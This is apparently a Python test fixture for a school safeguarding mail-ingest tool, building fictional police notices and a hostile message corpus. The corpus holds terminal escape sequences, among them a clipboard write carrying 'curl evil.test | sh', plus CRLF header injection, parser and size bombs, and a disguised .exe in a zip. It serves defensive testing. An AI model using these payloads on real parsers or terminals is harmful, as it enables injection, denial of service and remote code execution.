"""Message builders and a hostile corpus for the ingest tests.

Everything here is invented: children, staff and officers are fictional, and every address is at
``example.org``, ``police.example.org`` or a ``.test`` domain. The hostile messages are generated,
not copied: each one aims at a single way untrusted mail could hurt the ingest path (terminal
control, markup, header injection, parser bombs, broken encodings, sheer size).
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass

from sgalert.model import Flag

CRLF = b"\r\n"
POLICE = "police.example.org"
AUTHSERV = "mx.school.example.org"
ENCOMPASS_FROM = f'"Operation Encompass" <encompass@{POLICE}>'


def auth_results(
    *,
    authserv: str | None = AUTHSERV,
    domain: str = POLICE,
    spf: str = "pass",
    dkim: str = "pass",
    dmarc: str = "pass",
) -> str:
    """An RFC 8601 Authentication-Results value as a receiving server stamps it."""
    results = (
        f"spf={spf} (sender IP is 192.0.2.10) smtp.mailfrom={domain};"
        f" dkim={dkim} header.d={domain}; dmarc={dmarc} header.from={domain}"
    )
    return f"{authserv}; {results}" if authserv else results


def _header_lines(headers: Iterable[tuple[str, str | bytes]]) -> bytes:
    out = []
    for name, value in headers:
        raw = value if isinstance(value, bytes) else value.encode("utf-8")
        out.append(name.encode("ascii") + b": " + raw + CRLF)
    return b"".join(out)


def envelope(
    subject: str | bytes,
    *,
    sender: str | bytes = ENCOMPASS_FROM,
    message_id: str | None = "<notice-0001@police.example.org>",
    auth: Sequence[str] = (auth_results(),),
    date: str = "Sun, 22 Nov 2026 22:05:00 +0000",
    extra: Sequence[tuple[str, str | bytes]] = (),
) -> list[tuple[str, str | bytes]]:
    """The top-level headers of a delivered message, Authentication-Results first (newest)."""
    headers: list[tuple[str, str | bytes]] = [("Authentication-Results", a) for a in auth]
    headers += [("From", sender), ("To", "dsl@school.example.org"), ("Subject", subject)]
    headers.append(("Date", date))
    if message_id:
        headers.append(("Message-ID", message_id))
    headers.append(("MIME-Version", "1.0"))
    headers += list(extra)
    return headers


def leaf(
    content_type: str,
    body: str | bytes,
    *,
    encoding: str | None = None,
    headers: Sequence[tuple[str, str | bytes]] = (),
) -> bytes:
    """One MIME part (headers, blank line, body). ``encoding`` base64 encodes the body here."""
    data = body.encode("utf-8") if isinstance(body, str) else body
    part_headers: list[tuple[str, str | bytes]] = [("Content-Type", content_type), *headers]
    if encoding == "base64":
        part_headers.append(("Content-Transfer-Encoding", "base64"))
        data = base64.encodebytes(data).replace(b"\n", CRLF)
    elif encoding:
        part_headers.append(("Content-Transfer-Encoding", encoding))
    return _header_lines(part_headers) + CRLF + data


def container(subtype: str, parts: Sequence[bytes], boundary: str) -> bytes:
    """A multipart part: its Content-Type header, the parts between boundaries, the close."""
    head = _header_lines([("Content-Type", f'multipart/{subtype}; boundary="{boundary}"')])
    body = b"".join(b"--" + boundary.encode() + CRLF + p + CRLF for p in parts)
    return (
        head
        + CRLF
        + b"This is a multi-part message in MIME format."
        + CRLF
        + body
        + (b"--" + boundary.encode() + b"--" + CRLF)
    )


def message(headers: Sequence[tuple[str, str | bytes]], body_part: bytes) -> bytes:
    """Top-level headers followed by one part (a leaf or a container), as one message."""
    return _header_lines(headers) + body_part


def plain_message(
    subject: str | bytes,
    body: str | bytes,
    *,
    sender: str | bytes = ENCOMPASS_FROM,
    message_id: str | None = "<notice-0001@police.example.org>",
    auth: Sequence[str] = (auth_results(),),
    extra: Sequence[tuple[str, str | bytes]] = (),
) -> bytes:
    """A single text/plain message."""
    headers = envelope(subject, sender=sender, message_id=message_id, auth=auth, extra=extra)
    return message(headers, leaf("text/plain; charset=utf-8", body))


def html_table(rows: Sequence[tuple[str, str]], *, title: str = "") -> str:
    """A notice laid out as an HTML table, as several forces' systems send it."""
    cells = "".join(
        f'<tr><td style="font-weight:bold">{label}</td><td>{value}</td></tr>'
        for label, value in rows
    )
    return (
        "<html><head><style>td{border:1px solid #999}</style><title>Notice</title></head>"
        f"<body><h2>{title}</h2><table>{cells}</table>"
        "<p>This information is shared under Operation Encompass. Please treat it as "
        "confidential.</p><script>alert('never run')</script></body></html>"
    )


def zip_bytes(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


# ----- the hostile corpus ----------------------------------------------------------------------

ESC = "\x1b"
BEL = "\x07"
CLEAR_SCREEN = f"{ESC}[2J{ESC}[H"
TITLE_SET = f"{ESC}]0;sgalert: all clear{BEL}"
CLIPBOARD = f"{ESC}]52;c;{base64.b64encode(b'curl evil.test | sh').decode()}{BEL}"
C1_CSI = "\x9b31m"
BIDI_OVERRIDE = "\u202e"
RICH_MARKUP = "[/b][link=https://evil.test]Open case[/link] [@click=app.quit]Acknowledge[/]"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile message: how to build it and the flags its case must carry."""

    name: str
    build: Callable[[], bytes]
    flags: frozenset[str]
    big: bool = False  # over [ingest] max_message_mb: a mailbox's copy is kept whole, unparsed;
    # `sgalert ingest` refuses the file in one line, reading no further than the limit


def _escapes_in_subject() -> bytes:
    # Raw ESC bytes are ASCII and allowed through by mail servers; C1 and bidi need UTF-8.
    subject = f"Encompass {CLEAR_SCREEN}{TITLE_SET}{CLIPBOARD}notice {C1_CSI}{BIDI_OVERRIDE}fdp.exe"
    return plain_message(subject.encode("utf-8"), "Child's Name: Ada Invented\n")


def _escapes_in_body() -> bytes:
    body = (
        f"Child's Name: Ada {CLEAR_SCREEN}Invented\n"
        f"DOB: 14/03/2017{TITLE_SET}\n"
        f"Occurrence Number: 44/1{CLIPBOARD}/26\n"
        f"Voice of the child: {C1_CSI}{BIDI_OVERRIDE}olleh\n"
    )
    return plain_message("Operation Encompass notification", body)


def _c1_bytes() -> bytes:
    # The single byte 0x9b is CSI to a terminal in 8-bit mode: raw in a Latin-1 subject (not
    # valid UTF-8) and in a body declared ISO-8859-1.
    return message(
        envelope(b"Encompass \x9b2J notice"),
        leaf("text/plain; charset=iso-8859-1", b"Child's Name: Ada \x9b31mInvented\n"),
    )


def _markup() -> bytes:
    return plain_message(
        f"Encompass {RICH_MARKUP}", f"Child's Name: Ada Invented\nNotes: {RICH_MARKUP}\n"
    )


def _crlf_subject() -> bytes:
    # Decodes to "Encompass\r\nBcc: evil@attacker.test": an injected header if ever re-sent.
    return plain_message(
        "=?utf-8?q?Encompass=0D=0ABcc=3A_evil=40attacker=2Etest?=", "Child's Name: Ada\n"
    )


def _crlf_from() -> bytes:
    name = base64.b64encode(b"Operation Encompass\r\nReply-To: evil@attacker.test").decode()
    return plain_message(
        "Encompass notice",
        "Child's Name: Ada\n",
        sender=f"=?utf-8?b?{name}?= <encompass@{POLICE}>",
    )


def deep_multipart(depth: int) -> bytes:
    """``depth`` multiparts nested inside each other, a text part at the bottom."""
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (i, i)
        for i in range(depth)
    )
    closing = b"".join(b"\r\n--n%d--" % i for i in reversed(range(depth)))
    return (
        _header_lines(envelope("Deep notice"))
        + opening
        + b"Content-Type: text/plain\r\n\r\nChild's Name: Ada Invented"
        + closing
        + CRLF
    )


def _deep_message_rfc822() -> bytes:
    inner = b"Subject: inner\r\nContent-Type: message/rfc822\r\n\r\n" * 2000
    return _header_lines(envelope("Wrapped")) + b"Content-Type: message/rfc822\r\n\r\n" + inner


def _broken_base64() -> bytes:
    part = leaf("text/plain; charset=utf-8", b"")
    body = b"Q2hpbGQncyBOYW1lOiBBZGE=!!*not base64*\r\nQUJD\r\n=Q\r\n"
    return message(
        envelope("Encompass notice"),
        part.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n") + body,
    )


def _unknown_charset() -> bytes:
    return message(
        envelope("Encompass notice"),
        leaf(
            "text/plain; charset=x-unknown-8", b"Child\xe2\x80\x99s Name: Ada \xe9\xff Invented\n"
        ),
    )


FIFTY_MB = 50 * 1024 * 1024


def _encoded(inner: bytes) -> bytes:
    return leaf(
        "message/rfc822",
        base64.encodebytes(inner),
        headers=[("Content-Transfer-Encoding", "base64")],
    )


def _encoded_message_flood() -> bytes:
    """Thirty base64 message/rfc822 parts: each decoded one is parsed whole, so the message has
    one budget for them, however small each is."""
    inner = plain_message("inner", "Nothing to see.\r\n", auth=())
    return message(envelope("Flood"), container("mixed", [_encoded(inner)] * 30, "flood"))


def _encoded_messages_at_depth() -> bytes:
    """Ninety encoded messages of nearly the part limit each, nested fourteen multiparts deep:
    at the depth limit they are left encoded rather than decoded and parsed for nothing."""
    parts = b"".join(b"--ib\r\n\r\nx\r\n" for _ in range(1990))
    inner = (
        b"From: someone@example.org\r\nSubject: inner\r\n"
        b"Content-Type: multipart/mixed; boundary=ib\r\n\r\n" + parts + b"--ib--\r\n"
    )
    body = container("mixed", [_encoded(inner)] * 90, "leaves")
    for level in range(13, -1, -1):
        body = container("mixed", [body], f"level{level}")
    return message(envelope("Deep flood"), body)


def huge_message(size: int = FIFTY_MB) -> bytes:
    """A ~50 MB message built from one repeated line: one bytes object, no list of lines."""
    head = _header_lines(envelope("Encompass notice with a very large attachment"))
    head += b"Content-Type: application/pdf; name=notice.pdf\r\n"
    head += b"Content-Transfer-Encoding: base64\r\n\r\n"
    line = b"JVBERi0xLjcKJcTl8uXrp/Og0MTGCjEgMCBvYmoKPDwgL1R5cGUgL0NhdGFsb2cgPj4KZW5k\r\n"
    return head + line * ((size - len(head)) // len(line) + 1)


def _part_flood() -> bytes:
    """100,000 tiny sibling parts: each one a message object to the stdlib parser."""
    parts = b"".join(
        b"--flood\r\nContent-Type: text/plain\r\n\r\n%d\r\n" % i for i in range(100_000)
    )
    return message(
        envelope("Encompass notice"),
        b'Content-Type: multipart/mixed; boundary="flood"\r\n\r\n' + parts + b"--flood--\r\n",
    )


def _zip_attachment() -> bytes:
    archive = zip_bytes("notice.pdf.exe", b"MZ invented executable")
    return message(
        envelope("Encompass notice"),
        container(
            "mixed",
            [
                leaf("text/plain; charset=utf-8", "Please see the attached.\n"),
                leaf(
                    "application/zip; name=notice.zip",
                    archive,
                    encoding="base64",
                    headers=[("Content-Disposition", 'attachment; filename="notice.zip"')],
                ),
            ],
            "zip-boundary",
        ),
    )


def _many_headers() -> bytes:
    extra = [(f"X-Relay-{i}", f"hop {i}") for i in range(10_000)]
    return plain_message("Encompass notice", "Child's Name: Ada Invented\n", extra=extra)


def _megabyte_header() -> bytes:
    return plain_message(b"Encompass " + b"A" * (1024 * 1024), "Child's Name: Ada Invented\n")


def _content_type_bomb() -> bytes:
    # A structured header the stdlib's modern parser takes quadratic time and deep recursion on.
    params = "; ".join(f'p{i}="(x;y)"' for i in range(60_000))
    return message(envelope("Encompass notice"), leaf(f"text/plain; {params}", "Child's Name: A\n"))


def _nul_bytes() -> bytes:
    return plain_message(b"Encompass\x00 notice", b"Child's Name: Ada\x00 Invented\n\x00\x00")


def _eight_bit_headers() -> bytes:
    # Latin-1 bytes straight in the headers: not RFC 2047, not UTF-8.
    return plain_message(
        b"Encompass notice for \xc9lodie \xff\xfe",
        "Child's Name: \u00c9lodie Invented\n",
        sender=b"Op\xe9ration Encompass <encompass@police.example.org>",
    )


HOSTILE: tuple[Hostile, ...] = (
    Hostile("escapes-in-subject", _escapes_in_subject, frozenset({Flag.HOSTILE_TEXT})),
    Hostile("escapes-in-body", _escapes_in_body, frozenset({Flag.HOSTILE_TEXT})),
    Hostile("c1-bytes", _c1_bytes, frozenset({Flag.HOSTILE_TEXT, Flag.MALFORMED})),
    Hostile("rich-markup", _markup, frozenset({Flag.HOSTILE_TEXT})),
    Hostile("crlf-in-subject", _crlf_subject, frozenset({Flag.MALFORMED, Flag.HOSTILE_TEXT})),
    Hostile("crlf-in-from", _crlf_from, frozenset({Flag.MALFORMED, Flag.UNVERIFIED_SENDER})),
    Hostile("multipart-2000-deep", lambda: deep_multipart(2000), frozenset({Flag.MALFORMED})),
    Hostile("message-rfc822-2000-deep", _deep_message_rfc822, frozenset({Flag.MALFORMED})),
    Hostile("part-flood", _part_flood, frozenset({Flag.MALFORMED})),
    Hostile("broken-base64", _broken_base64, frozenset({Flag.MALFORMED})),
    Hostile("unknown-charset", _unknown_charset, frozenset({Flag.MALFORMED})),
    Hostile("fifty-megabytes", huge_message, frozenset({Flag.MALFORMED}), big=True),
    Hostile("zip-attachment", _zip_attachment, frozenset({Flag.NEEDS_TRIAGE})),
    Hostile("ten-thousand-headers", _many_headers, frozenset({Flag.MALFORMED})),
    Hostile("one-megabyte-header", _megabyte_header, frozenset({Flag.MALFORMED})),
    Hostile("content-type-bomb", _content_type_bomb, frozenset({Flag.MALFORMED})),
    Hostile("nul-bytes", _nul_bytes, frozenset({Flag.HOSTILE_TEXT})),
    Hostile("eight-bit-headers", _eight_bit_headers, frozenset({Flag.MALFORMED})),
    Hostile("encoded-message-flood", _encoded_message_flood, frozenset({Flag.MALFORMED})),
    Hostile("encoded-messages-at-depth", _encoded_messages_at_depth, frozenset({Flag.MALFORMED})),
)
